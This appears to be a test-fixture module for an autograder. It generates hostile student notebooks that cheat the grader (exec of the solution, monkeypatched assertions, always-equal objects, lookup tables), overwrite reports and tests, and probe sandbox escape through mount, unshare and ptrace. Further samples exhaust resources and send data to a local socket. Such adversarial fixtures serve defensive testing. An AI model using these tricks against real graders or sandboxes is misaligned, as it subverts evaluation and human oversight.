"""The hostile students of ``test_grading_hostile.py``: notebooks (as lists of code cells)
written by honest, blank, cheating and hostile students, by hole class: cheating the judge,
escaping the sandbox or its limits (privileges, file systems, the channel), crashing the
worker, and the submission files themselves (links, FIFOs, deep or huge JSON). Generated here,
never committed as notebooks."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path

import numpy as np

from pooling_course import forward, grading

EXERCISE = "01_forward"
SOLUTION = [source for _, source in grading.notebook_cells(grading.SOLUTIONS / f"{EXERCISE}.ipynb")]
DEFINITIONS = [s for s in SOLUTION if s.startswith(("def ", "import "))]
QUESTIONS = {"1.1 pool_output_size": 4, "1.2 max_pool2d": 6, "1.3 receptive_field": 3}
SIZE, MAX, FIELD = QUESTIONS
MARKER = "pooling-hostile-marker"
TIME_LIMIT = 2


GARBAGE = textwrap.dedent("""
    import numpy as np

    def pool_output_size(input_size, kernel_size, stride=None, padding=0, dilation=1,
                         ceil_mode=False):
        return 1

    def max_pool2d(x, kernel_size, stride=None, padding=0):
        return np.zeros((1, 1), dtype=np.asarray(x).dtype)

    def receptive_field(layers):
        return (1, 1)
    """)


def write(path: Path, sources: list[str]) -> None:
    grading.write_code_notebook(path, sources)


def lookup_table_student() -> str:
    """Correct on the graded tests' fixed teaching inputs only, from a table."""
    fixed = [(np.array([[1, 3, 2, 1], [4, 6, 5, 0], [2, 9, 3, 4], [0, 1, 7, 2]], np.float32),
              (2, 2, 0))]
    fixed += [(-np.arange(1, 26, dtype=np.float64).reshape(5, 5), c)
              for c in [(2, 2, 1), (3, 1, 1), (3, 2, 1), (4, 3, 2)]]
    fixed += [(np.random.default_rng(1).integers(-9, 9, size=(6, 7)).astype(np.float32),
               ((2, 3), (1, 2), (1, 0)))]
    table = {repr((x.tolist(), json.dumps(c))): forward.max_pool2d_loop(x[None], *c)[0].tolist()
             for x, c in fixed}
    stacks = {repr([(k, s) for k, s, _ in stack]):
              (forward.receptive_fields([forward.Layer("l", k, s) for k, s, _ in stack])[-1])
              for stack in __import__("test_01_forward").STACKS if all(d == 1 for *_, d in stack)}
    stacks = {key: (r.receptive_field, r.effective_stride) for key, r in stacks.items()}
    return GARBAGE + textwrap.dedent(f"""
        import json
        TABLE = {table!r}
        STACKS = {stacks!r}
        def pool_output_size(n, k, s=None, p=0, d=1, ceil_mode=False):
            s = k if s is None else s
            if n >= 12:  # the public grid stops at 11
                return 1
            span = n + 2 * p - d * (k - 1) - 1
            out = (-(-span // s) if ceil_mode else span // s) + 1
            return out - 1 if ceil_mode and (out - 1) * s >= n + p else out
        def max_pool2d(x, kernel_size, stride=None, padding=0):
            key = repr((np.asarray(x).tolist(), json.dumps([kernel_size, stride, padding])))
            got = TABLE.get(key)
            return np.zeros((1, 1)) if got is None else np.array(got, dtype=np.asarray(x).dtype)
        def receptive_field(layers):
            return STACKS.get(repr([tuple(l) for l in layers]), (1, 1))
        """)


def hostile_students(root: Path, classroom: Path, canary: Path, port: int) -> dict[str, list]:
    """name -> code cells. ``root`` is the repository, ``classroom`` the class folder."""
    honest, blank = SOLUTION, None
    return {
        "honest": honest,
        "honest_bare": DEFINITIONS,  # a correct answer that kept no demo cell
        "blank": blank,
        "torch": [textwrap.dedent(f"""
            import sys
            sys.path += {[str(p) for p in (root / ".venv").glob("lib/python3*/site-packages")]!r}
            import numpy as np
            import torch
            import torch.nn.functional as F
            """), textwrap.dedent("""
            def pool_output_size(n, k, s=None, p=0, d=1, ceil_mode=False):
                return F.max_pool1d(torch.zeros(1, 1, n), k, s, p, d, ceil_mode).shape[-1]
            def max_pool2d(x, k, s=None, p=0):
                return F.max_pool2d(torch.from_numpy(x)[None], k, s, p)[0].numpy()
            """)],
        "package": [textwrap.dedent("""
            from pooling_course.forward import pool_output_size
            from pooling_course.forward import max_pool2d_loop as max_pool2d
            from pooling_course.forward import receptive_fields as receptive_field
            """)],
        "solution_exec": [GARBAGE, textwrap.dedent(f"""
            import json, os
            candidates = ["solutions/{EXERCISE}.ipynb", "../solutions/{EXERCISE}.ipynb",
                          "../../solutions/{EXERCISE}.ipynb",
                          "{root}/solutions/{EXERCISE}.ipynb"]
            try:
                import pooling_course
                candidates.append(os.path.join(os.path.dirname(pooling_course.__file__),
                                               "..", "solutions", "{EXERCISE}.ipynb"))
            except ImportError:
                pass
            for path in candidates:
                try:
                    cells = json.load(open(path))["cells"]
                except OSError:
                    continue
                for cell in cells:
                    if cell["cell_type"] == "code":
                        exec("".join(cell["source"]), globals())
            """)],
        "monkeypatch": [GARBAGE, textwrap.dedent("""
            import builtins, sys
            import numpy as np
            np.testing.assert_array_equal = lambda *a, **k: None
            np.testing.assert_allclose = lambda *a, **k: None
            np.array_equal = lambda *a, **k: True
            builtins.isinstance = lambda *a: True
            builtins.AssertionError = type("Never", (BaseException,), {})
            for name in ("torch", "torch.nn.functional", "_pytest", "pytest", "tests.conftest",
                         "pooling_course.grading.plugin"):
                try:
                    module = __import__(name)
                    module.max_pool2d = lambda *a, **k: np.zeros((1, 1))
                    getattr(module, "_outcomes", {}).clear()
                except Exception:
                    pass
            """)],
        "report_rewriter": [GARBAGE, textwrap.dedent(f"""
            import atexit, glob, os
            def rewrite():
                paths = glob.glob("/tmp/**/*.json", recursive=True)
                paths += glob.glob("{classroom.parent}/*.csv")
                for pid in os.listdir("/proc"):
                    try:
                        args = open(f"/proc/{{pid}}/cmdline").read().split("\\0")
                    except OSError:
                        continue
                    paths += [a.split("=", 1)[1] for a in args if a.startswith("--grade-")]
                for path in paths:
                    try:
                        open(path, "w").write("hacked")
                    except OSError:
                        pass
            atexit.register(rewrite)
            rewrite()
            """)],
        "detacher": [GARBAGE, textwrap.dedent(f"""
            import os, subprocess
            script = "sleep 1; echo DETACHED >> {classroom.parent}/grades.csv"
            try:
                subprocess.Popen(["sh", "-c", script], start_new_session=True)
            except OSError as exc:
                print(exc)
            if os.fork() == 0:
                os.setsid()
                os.system(script)
                os._exit(0)
            """)],
        "always_equal": [textwrap.dedent("""
            import numpy as np
            class Anything(int):
                def __eq__(self, other):
                    return True
                __hash__ = int.__hash__
            class AnyArray(np.ndarray):
                def __eq__(self, other):
                    return np.ones(np.shape(other), bool)
            def pool_output_size(*args, **kwargs):
                return Anything(0)
            def max_pool2d(x, *args, **kwargs):
                return np.zeros((1, 1)).view(AnyArray)
            def receptive_field(layers):
                return (Anything(0), Anything(0))
            """)],
        "lookup_table": [lookup_table_student()],
        "overwriter": [GARBAGE, textwrap.dedent(f"""
            import glob
            targets = glob.glob("{classroom}/**/*.ipynb", recursive=True)
            targets += ["{root}/tests/test_{EXERCISE}.py", "{root}/tests/conftest.py",
                        "{root}/pooling_course/grading/plugin.py"]
            for path in targets:
                try:
                    open(path, "w").write("import pytest\\n")
                except OSError:
                    pass
            """)],
        "memory_cell": [*SOLUTION, "hog = np.ones(12 << 27)"],
        "memory_call": [*SOLUTION, textwrap.dedent("""
            def max_pool2d(x, kernel_size, stride=None, padding=0):
                return np.ones(12 << 27)
            """)],
        "forker": [*SOLUTION, textwrap.dedent(f"""
            import subprocess
            for _ in range(50):
                subprocess.Popen(["sleep", "60", "{MARKER}"])
            """)],
        "tmp_deleter": [*SOLUTION, f"import os\nos.remove({str(canary)!r})"],
        "network": [*SOLUTION, f"import socket\nsocket.create_connection(('127.0.0.1', {port}), "
                               "timeout=2).sendall(b'leak')"],
        "os_exit": [*SOLUTION, "import os\nos._exit(3)"],
        "segfault": [*SOLUTION, "import ctypes\nctypes.string_at(0)"],
        "sys_exit": [*SOLUTION, "import sys\nsys.exit('bye')", "x = 1"],
        "endless_cell": [*SOLUTION, "while True:\n    pass"],
        "endless_call": [*SOLUTION, textwrap.dedent("""
            def max_pool2d(x, kernel_size, stride=None, padding=0):
                while True:
                    pass
            """)],
        "unbreakable": [*SOLUTION, textwrap.dedent("""
            def receptive_field(layers):
                while True:
                    try:
                        while True:
                            pass
                    except BaseException:
                        pass
            """)],
        "missing_function": [s for s in SOLUTION if "receptive_field" not in s],
        "huge_answer": [*SOLUTION, "def receptive_field(layers):\n"
                                   "    return 'x' * 68_000_000"],
        # --- privileges, file systems, the channel (issue 20, holes 1, 3, 4, 7) ---
        "privileged": [*DEFINITIONS, PRIVILEGED],
        "filler": [*DEFINITIONS, FILLER],
        "nested_answer": [*DEFINITIONS, "def receptive_field(layers):\n"
                                        "    return [[] for _ in range(300_000)]"],
        "liar": [*DEFINITIONS, LIAR],
        "deaf": [*DEFINITIONS, "import sys, time\n"
                               "sys.modules['__main__'].read_frame = lambda s: time.sleep(1e6)"],
        "slow_cells": [*DEFINITIONS, *["import time\ntime.sleep(8)"] * 4],
        **{name: DEFINITIONS for name in NAMES},
    }


NAMES = ["a b", "a,b", "a_b", "=HYPERLINK(1)", "\x1b[2Jwiped"]
# Each of these cells raises "contained" when every attempt failed, "ESCAPED: ..." otherwise.
PRIVILEGED = textwrap.dedent("""
    import ctypes, glob, os
    libc = ctypes.CDLL(None, use_errno=True)
    escaped = []
    status = open("/proc/self/status").read()
    if os.getuid() == 0 or "CapEff:\t0000000000000000" not in status:
        escaped.append("privileges")
    for target in ("/usr", "/", "/opt/site/numpy", "/proc"):
        if libc.mount(None, target.encode(), None, 32 | 4096, None) == 0:  # MS_REMOUNT|MS_BIND
            escaped.append(f"remount {target}")
    for target in glob.glob("/usr/lib/python3*/site-packages") + ["/tmp", "/scratch"]:
        if libc.umount2(target.encode(), 2) == 0:
            escaped.append(f"umount {target}")
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        escaped.append("unshare")
    if libc.ptrace(16, 1, None, None) == 0:  # PTRACE_ATTACH to the sandbox's init
        escaped.append("ptrace")
    try:
        open(os.path.dirname(__import__("numpy").__file__) + "/__init__.py", "a")
        escaped.append("numpy writable")
    except OSError:
        pass
    try:
        open("/proc/self/clear_refs", "w").write("5")
        escaped.append("clear_refs")
    except OSError:
        pass
    raise RuntimeError(("ESCAPED: " + ", ".join(escaped)) if escaped else "contained")
    """)
FILLER = textwrap.dedent("""
    written = {}
    for folder in ("/", "/dev", "/dev/shm", "/tmp", "/scratch"):
        count = 0
        try:
            with open(folder.rstrip("/") + "/fill", "wb") as handle:
                for _ in range(256):
                    handle.write(b"x" * (1 << 20))
                    handle.flush()
                    count += 1
        except OSError:
            pass
        written[folder] = count
    big = {k: v for k, v in written.items() if v > 64}
    raise RuntimeError(f"ESCAPED: {big}" if big else "contained")
    """)
# a frame of more than MAX_ITEMS empty lists, written on every descriptor the worker holds
LIAR = textwrap.dedent("""
    import json, os, struct
    body = json.dumps({"ev": "cell", "n": [[]] * 2_000_000}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, struct.pack(">Q", len(body)) + body)
        except OSError:
            pass
    """)


def hostile_files(classroom: Path) -> None:
    """Submission files as an archive or a clone can deliver them."""
    solution = grading.SOLUTIONS / f"{EXERCISE}.ipynb"
    for name, target in (("link_solution", solution), ("link_zero", Path("/dev/zero"))):
        (classroom / name).mkdir()
        (classroom / name / f"{EXERCISE}.ipynb").symlink_to(target)
    (classroom / "link_folder").symlink_to(classroom / "honest")
    (classroom / "fifo").mkdir()
    os.mkfifo(classroom / "fifo" / f"{EXERCISE}.ipynb")
    (classroom / "deep_json").mkdir()
    (classroom / "deep_json" / f"{EXERCISE}.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    (classroom / "many_items").mkdir()
    (classroom / "many_items" / f"{EXERCISE}.ipynb").write_text(
        '{"cells": [' + "[]," * 600_000 + "[]]}")
    (classroom / "big_file").mkdir()
    with open(classroom / "big_file" / f"{EXERCISE}.ipynb", "wb") as handle:
        handle.truncate(21 << 20)
    (classroom / "empty").mkdir()
    write(classroom / "stray" / f"{EXERCISE}.ipynb", DEFINITIONS)
    write(classroom / "stray" / "02_filtering.ipynb", ["x = 1"])
